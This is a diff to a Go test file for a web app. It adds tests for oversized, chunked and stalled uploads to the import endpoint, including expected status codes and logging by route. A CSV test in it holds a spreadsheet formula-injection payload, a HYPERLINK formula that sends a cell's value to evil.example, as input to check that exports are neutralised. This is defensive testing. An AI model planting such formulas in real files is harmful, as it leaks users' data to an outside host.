@@ -20,7 +20,6 @@ import (
 	"runtime/debug"
 	"runtime/metrics"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 )
@@ -146,22 +145,87 @@ func TestHostileBodyOverTheLimit(t *testing.T) {
 	}
 }
 
-// syncBuffer is a log the server writes while the test reads it.
-type syncBuffer struct {
-	mu sync.Mutex
-	b  bytes.Buffer
+// multipartFile is an import form's body holding data as its file, sent
+// with Content-Type multipartType.
+func multipartFile(data string) string {
+	return "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"t.json\"\r\n" +
+		"Content-Type: application/json\r\n\r\n" + data + "\r\n--b0undary--\r\n"
 }
 
-func (s *syncBuffer) Write(p []byte) (int, error) {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return s.b.Write(p)
+const multipartType = "multipart/form-data; boundary=b0undary"
+
+// sendFast writes body as quickly as the server takes it, in chunks of
+// 1 MiB, chunked or not.
+func sendFast(body string, chunked bool) func(net.Conn) error {
+	return func(conn net.Conn) error {
+		for len(body) > 0 {
+			part := body[:min(len(body), 1<<20)]
+			body = body[len(part):]
+			var err error
+			if chunked {
+				_, err = fmt.Fprintf(conn, "%x\r\n%s\r\n", len(part), part)
+			} else {
+				_, err = io.WriteString(conn, part)
+			}
+			if err != nil {
+				return err
+			}
+		}
+		if chunked {
+			_, err := io.WriteString(conn, "0\r\n\r\n")
+			return err
+		}
+		return nil
+	}
 }
 
-func (s *syncBuffer) String() string {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return s.b.String()
+// The import has its own body limit (its file of up to 32 MiB and the
+// form around it): a file over 2 MiB imports; over the import's limit it
+// is a 413 naming that limit after the body was read and dropped, a file
+// over 32 MiB sent chunked is refused by the import naming its limit, and
+// a stalled import is a 408; none of them writes anything.
+func TestHostileImportBodyLimits(t *testing.T) {
+	ts := newTestServerWith(t, func(a *app) { a.writeRate, a.imports = 0, newImportBudget(1<<30, 1<<30) })
+
+	// 3 MiB: an export with spaces between its tokens, as JSON allows.
+	export := kksExport(3)
+	padded := export[:1] + strings.Repeat(" ", 3<<20) + export[1:]
+	if p := ts.upload(t, padded); p.status != http.StatusSeeOther {
+		t.Fatalf("a 3 MiB import: %d %s", p.status, p.text(`[data-testid="import-error"]`))
+	}
+	rows := ts.rows()
+
+	over := multipartFile(`{"format":"` + strings.Repeat("a", maxImportBody))
+	resp, body := rawExchange(t, ts, postHead("/tables/import", multipartType, len(over)), sendFast(over, false))
+	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "more than 33 MB, the most Tablemate takes") || !resp.Close {
+		t.Errorf("a 33 MiB+ import, Content-Length: %d close=%v %.300q", resp.StatusCode, resp.Close, body)
+	}
+	resp, body = rawExchange(t, ts, postHead("/tables/import", multipartType, -1), sendFast(over, true))
+	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "larger than 32 MiB, the most an import reads") {
+		t.Errorf("a 33 MiB+ import, chunked: %d %.300q", resp.StatusCode, body)
+	}
+	if after := ts.rows(); after != rows {
+		t.Errorf("imports over the limit wrote %d rows", after-rows)
+	}
+
+	var log syncBuffer
+	slow := newTestServerWith(t, func(a *app) {
+		a.headerTimeout, a.bodyTimeout = 500*time.Millisecond, 500*time.Millisecond
+		a.log = slog.New(slog.NewTextHandler(&log, nil))
+	})
+	rows = slow.rows()
+	whole := multipartFile(export)
+	resp, body = rawExchange(t, slow, postHead("/tables/import", multipartType, len(whole)),
+		func(conn net.Conn) error { _, err := io.WriteString(conn, whole[:len(whole)/2]); return err })
+	if resp.StatusCode != http.StatusRequestTimeout || !strings.Contains(body, "arrived too slowly") {
+		t.Errorf("a stalled import: %d %.300q", resp.StatusCode, body)
+	}
+	if !strings.Contains(log.String(), "route=/tables/import status=408") {
+		t.Errorf("the log does not say 408 for the import:\n%s", log.String())
+	}
+	if after := slow.rows(); after != rows {
+		t.Errorf("a stalled import wrote %d rows", after-rows)
+	}
 }
 
 // A body that stops arriving is a 408 in words, logged as 408; the form
@@ -195,9 +259,10 @@ func TestHostileSlowBody(t *testing.T) {
 		t.Errorf("slow table form: %d", resp.StatusCode)
 	}
 	logged := log.String()
-	for _, uri := range []string{"/check/koffer-katze-sombrero", "/api/v1/games/koffer-katze-sombrero/score", "/tables"} {
-		if !strings.Contains(logged, "uri="+uri+" status=408") {
-			t.Errorf("the log does not say 408 for %s:\n%s", uri, logged)
+	// Requests are logged by route, never by URI (a URI may hold a link).
+	for _, route := range []string{"/check/:game", "/api/v1/games/:game/score", "/tables"} {
+		if !strings.Contains(logged, "route="+route+" status=408") {
+			t.Errorf("the log does not say 408 for %s:\n%s", route, logged)
 		}
 	}
 	// A body that arrives whole, if not fast, is served as usual.
@@ -222,11 +287,7 @@ func TestHostileServerTimeouts(t *testing.T) {
 // table's name included; scores stay numbers, negative ones too.
 func TestHostileCSVFormulas(t *testing.T) {
 	ts := newTestServer(t)
-	f := ts.get("/leagues/new").formOf(t, "/leagues")
-	f.Set("name", "Club")
-	f.Set("scheme", "total")
-	f.Set("members", "@Ana\n-Ben")
-	admin := ts.post("/leagues", f).header.Get("Location")
+	admin := ts.createLeague(t, "Club", "total", "@Ana", "-Ben")
 
 	const evil = `=HYPERLINK("http://evil.example/?"&B2,"Click")`
 	nf := ts.get("/tables/new").formOf(t, "/tables")
